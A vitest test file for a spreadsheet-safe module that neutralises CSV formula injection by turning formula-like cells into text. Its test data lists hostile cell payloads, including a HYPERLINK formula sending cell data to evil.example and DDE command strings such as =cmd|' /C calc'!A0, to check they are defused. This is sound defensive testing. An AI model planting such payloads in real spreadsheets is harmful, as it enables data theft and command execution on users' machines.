// Hostile cells: what a spreadsheet would run as a formula is written as text; everything else is left as it was.
import { describe, expect, test } from 'vitest';
import { csvRecord, defuseCell, reviveCell, startsLikeFormula } from './spreadsheet-safe.ts';

describe('defuseCell', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"open")', `'=HYPERLINK("http://evil.example/?x="&A1,"open")`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['+1+cmd|calc', `'+1+cmd|calc`],
    ['-2+3+cmd|calc', `'-2+3+cmd|calc`],
    ['@SUM(1+1)*cmd|calc', `'@SUM(1+1)*cmd|calc`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['＝1+1', `'＝1+1`],
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠SUM(A1)', `'＠SUM(A1)`],
    ['  =1+1', `'  =1+1`],
    ['\n=1+1', `'\n=1+1`],
  ])('defuses %j', (hostile, written) => {
    expect(defuseCell(hostile)).toBe(written);
    expect(startsLikeFormula(hostile)).toBe(true);
  });

  test.each(['Ana', 'medical_counselling', '2026-12-06', 'a=b', 'x-1', "'already text", ''])('leaves %j as it is', (plain) => {
    expect(defuseCell(plain)).toBe(plain);
  });

  test('numbers and booleans stay as they are; nothing is empty', () => {
    expect(defuseCell(-3)).toBe('-3');
    expect(defuseCell(true)).toBe('true');
    expect(defuseCell(null)).toBe('');
    expect(defuseCell(undefined)).toBe('');
  });
});

describe('csvRecord', () => {
  test('quotes what needs quoting after defusing', () => {
    expect(csvRecord(['=1,2', 'say "hi"', 7, null])).toBe(`"'=1,2","say ""hi""",7,\r\n`);
  });
});

describe('reviveCell', () => {
  test('undoes only what defuseCell added', () => {
    for (const v of ['=1+1', '+40 721 000 111', '-x', 'plain', "'quoted", '＠x']) expect(reviveCell(defuseCell(v))).toBe(v);
  });
});
